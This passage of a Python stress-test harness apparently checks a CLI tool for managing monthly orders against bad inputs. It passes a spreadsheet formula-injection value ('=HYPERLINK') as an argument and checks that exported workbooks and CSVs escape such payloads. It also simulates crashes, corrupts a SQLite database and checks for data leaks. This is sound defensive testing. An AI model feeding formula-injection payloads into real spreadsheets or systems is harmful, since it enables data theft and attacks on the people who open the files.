    payloads, data = chosen
    area.notes.append(f"month with {len(payloads)} injection payloads accepted by check")
    workspace = fresh_workspace(base, tmp / "month" / "ws", data)
    before = tree(tmp)
    run = cli("-w", str(workspace), "month", "open", MONTH, timeout=120)
    if run.ok:
        run = cli("-w", str(workspace), "print", timeout=400)
    area.tried += 1
    if run.fault:
        area.fail(run.fault, "injection month: open and print", run.cause)
    steps: list[tuple[str, ...]] = []
    if run.ok:
        manifest = json.loads((workspace / "output" / MONTH / "private" / "manifest.json").read_text(encoding="utf-8"))
        firsts = [p for p in manifest["pages"] if p["page"] == 1]
        for n, page in enumerate(printed_pages(workspace, 4, first_only=True)):
            boxes = {b["id"]: b["rect"] for b in manifest["layouts"][firsts[n]["layout"]]["boxes"]}
            for box in ("q-0-1", "q-1-1", "q-2-1"):  # orders, so that the payloads reach the documents
                if box in boxes:
                    tick(page, boxes[box])
            (workspace / "scans" / f"retour-{n}.png").write_bytes(bi.png(page))
        steps.append(("scan",))
    elif not run.fault:
        area.fail("setup", "injection month: open and print", one_line(run.output[-240:]))
    steps += [("status",), ("month", "close", "--force", "--par", "=HYPERLINK(\"x\")"), ("documents",),
              ("export", "orders"), ("site",)]
    for step in steps:
        run = cli("-w", str(workspace), *step, timeout=400)
        area.tried += 1
        if run.fault:
            area.fail(run.fault, f"injection month: {' '.join(step)}", run.cause)
        else:
            area.notes.append(f"injection month: {' '.join(step)}: exit {run.code}, {one_line(run.output, 140)}")
    for cell in formula_cells(workspace / "output"):
        area.fail("wrong", "injection month: written workbooks", f"formula cell: {cell}")
    for path in sorted((workspace / "output").rglob("*.csv")):
        text = path.read_text(encoding="utf-8-sig", errors="replace")
        for value in payloads.values():
            if re.search(r"(^|[,;\t])" + re.escape(value.strip().split("|")[0][:8]), text, re.M):
                area.fail("wrong", "injection month: written CSV", f"{path.name} holds a cell starting with "
                          f"{value[:12]!r} unescaped")
    names = member_names(data)
    public = [p for folder in ("site", "public") for p in sorted((workspace / "output" / MONTH / folder).rglob("*"))]
    for path in public:
        if path.is_file() and path.suffix in (".html", ".json", ".js", ".txt", ".csv"):
            text = path.read_text(encoding="utf-8", errors="replace")
            for name in names:
                if name in text:
                    area.fail("wrong", "injection month: public site", f"member data {name[:20]!r} in {path.name}")
    for path in outside_output(before, tree(tmp), workspace):
        if "month-check" not in path and f"{os.sep}rendered{os.sep}" not in path:
            area.fail("wrong", "injection month", f"file written outside the output folder: {path}")
    crash_mid_close(area, workspace, tmp)
    damaged_database(area, workspace, tmp)
    return area


def crash_mid_close(area: Area, workspace: Path, tmp: Path) -> None:
    """``month close`` killed part-way (a power cut), then the month reopened, closed again and
    its status asked: said in words, never a traceback."""
    copy = tmp / "crash" / "ws"
    shutil.copytree(workspace, copy)
    dispose_engines()
    env = subprocess_env(tmp)
    must(cli("-w", str(copy), "month", "reopen", MONTH, "--raison", "panne"), "month reopen before the crash")
    dispose_engines()
    for delay in (3.0, 5.0, 7.0):
        process = subprocess.Popen([PYTHON, "-m", "cagettes", "-w", str(copy), "month", "close", "--force"],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env, start_new_session=True)
        time.sleep(delay)
        killed = process.poll() is None
        if killed:
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        area.notes.append(f"month close {'killed' if killed else 'finished'} after {delay:.0f} s")
        for step in (("status",), ("month", "close", "--force"), ("documents",), ("export", "orders"),
                     ("month", "reopen", MONTH, "--raison", "encore")):
            run = cli("-w", str(copy), *step, timeout=300)
            area.tried += 1
            if run.fault:
                area.fail(run.fault, f"after month close killed at {delay:.0f} s: {' '.join(step)}", run.cause)
        dispose_engines()


def damaged_database(area: Area, workspace: Path, tmp: Path) -> None:
    """A copy of the month with garbage over the pages of its scan and month tables."""
    copy = tmp / "damaged" / "ws"
    shutil.copytree(workspace, copy)
    database = copy / "cagettes.db"
    with contextlib.closing(sqlite3.connect(database)) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        try:
            pages = [n for (n,) in conn.execute(
                "SELECT pageno FROM dbstat WHERE name IN (SELECT name FROM sqlite_master WHERE tbl_name IN "
                "('scanned_pages', 'months', 'forms', 'closings'))")]
        except sqlite3.OperationalError:
            area.notes.append("damaged database not tried: SQLite without dbstat")
            return
    garbage = np.random.default_rng(15).integers(0, 256, 4096, dtype=np.uint8).tobytes()
    with open(database, "r+b") as file:
        for number in pages:
            file.seek((number - 1) * 4096)
            file.write(garbage)
    for step in (("status",), ("export", "orders"), ("scan",), ("month", "reopen", MONTH, "--raison", "x"),
                 ("month", "close", "--force"), ("backup",), ("site",)):
        run = cli("-w", str(copy), *step, timeout=120)
        area.tried += 1
        if run.fault:
            area.fail(run.fault, f"damaged database: {' '.join(step)}", run.cause)


# ----------------------------------------------------------------------------- report

def report(areas: list[Area], seconds: float) -> None:
    print()
    print(f"{'area':<10} {'inputs tried':>12} {'tracebacks':>10} {'pages lost':>10} {'wrong results':>13}")
    for a in areas:
        print(f"{a.name:<10} {a.tried:>12} {a.tracebacks:>10} {a.lost:>10} {a.wrong:>13}")
    total = [sum(getattr(a, k) for a in areas) for k in ("tried", "tracebacks", "lost", "wrong")]
    print(f"{'total':<10} {total[0]:>12} {total[1]:>10} {total[2]:>10} {total[3]:>13}   (targets: 0, 0, 0)")
    print(f"\nrun time: {seconds:.0f} s")
    for a in areas:
        if a.notes:
            print(f"\n{a.name}, notes:")
            for note in a.notes:
                print(f"  - {one_line(note, 300)}")
    failures = [(a.name, *f) for a in areas for f in a.failures]
    if not failures:
        print("\nno failing input")
        return
    print(f"\nfailing inputs ({len(failures)}), grouped by cause:")
    groups: dict[tuple[str, str, str], list[str]] = defaultdict(list)
    for area, kind, what, cause in failures:
        key = ("box overlapped: ink on or within 1 mm of a tick box, mark or code" if cause.startswith("box overlapped")
               else re.sub(r"\d{3,}|/tmp/\S+", "…", cause))
        groups[area, kind, key].append(f"{what}  ⟶  {cause}")
    for (area, kind, cause), items in sorted(groups.items(), key=lambda g: (g[0][0], -len(g[1]))):
        print(f"\n[{area}] {kind} × {len(items)}: {cause}")
        for item in items[:8]:
            print(f"    {one_line(item, 260)}")
        if len(items) > 8:
            print(f"    … and {len(items) - 8} more")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seed", type=int, default=15)
    parser.add_argument("--catalogs", type=int, default=150, help="random workbooks (plus the hand-picked ones)")
    parser.add_argument("--requests", type=int, default=1450, help="requests to the review page")
    parser.add_argument("--scans", type=int, default=70, help="bad scan files (at most about 70)")
    parser.add_argument("--configs", type=int, default=60, help="malformed configurations (at most about 60)")
    parser.add_argument("--prints", type=int, default=8, help="accepted catalogs opened and printed")
    parser.add_argument("--only", default="", help="comma-separated areas: catalogs,configs,scans,review,month")
    parser.add_argument("--keep", type=Path, default=None, help="work in this folder and keep it")
    args = parser.parse_args(argv)
    rng = random.Random(args.seed)
    only = set(filter(None, args.only.split(",")))

    def wanted(name: str) -> bool:
        return not only or name in only

    started = time.perf_counter()
    if args.keep:
        args.keep.mkdir(parents=True, exist_ok=True)
        tmp = Path(tempfile.mkdtemp(prefix="break-", dir=args.keep)).resolve()
    else:
        tmp = Path(tempfile.mkdtemp(prefix="cagettes-break-")).resolve()
    (tmp / "systmp").mkdir()
    tempfile.tempdir = str(tmp / "systmp")  # incidents without a workspace land here, not in /tmp
    sandbox = tmp / "outside"
    (sandbox / "existing").mkdir(parents=True)
    (sandbox / "existing").chmod(0o755)
    (sandbox / "file.txt").write_text("x")
    (sandbox / "file.txt").chmod(0o644)
    try:
        base, book = base_workspace(tmp)
        areas = []
        clock = time.perf_counter()

        def done(area: Area) -> None:
            nonlocal clock
            area.notes.insert(0, f"{time.perf_counter() - clock:.0f} s")
            clock = time.perf_counter()
            areas.append(area)
            print(f"{area.name} done ({clock - started:.0f} s)", file=sys.stderr)

        if wanted("catalogs"):
            done(catalogs_area(tmp, base, book, args, rng))
        if wanted("configs"):
            done(configs_area(tmp, base, args))
        scanned = None
        if wanted("scans") or wanted("review"):
            area, scanned = scans_area(tmp, base, args, rng)
            done(area)
        if wanted("review"):
            done(review_area(scanned, args, rng))
        if wanted("month"):
            done(month_area(tmp, base, book))
        report(areas, time.perf_counter() - started)
        return 0 if all(a.tracebacks == a.lost == a.wrong == 0 for a in areas) else 1
    finally:
        if args.keep is None:
            for folder, dirs, _ in os.walk(tmp):  # mode-000 files and read-only folders left by the inputs
                for name in dirs:
                    with contextlib.suppress(OSError):
                        os.chmod(os.path.join(folder, name), 0o700)
            shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
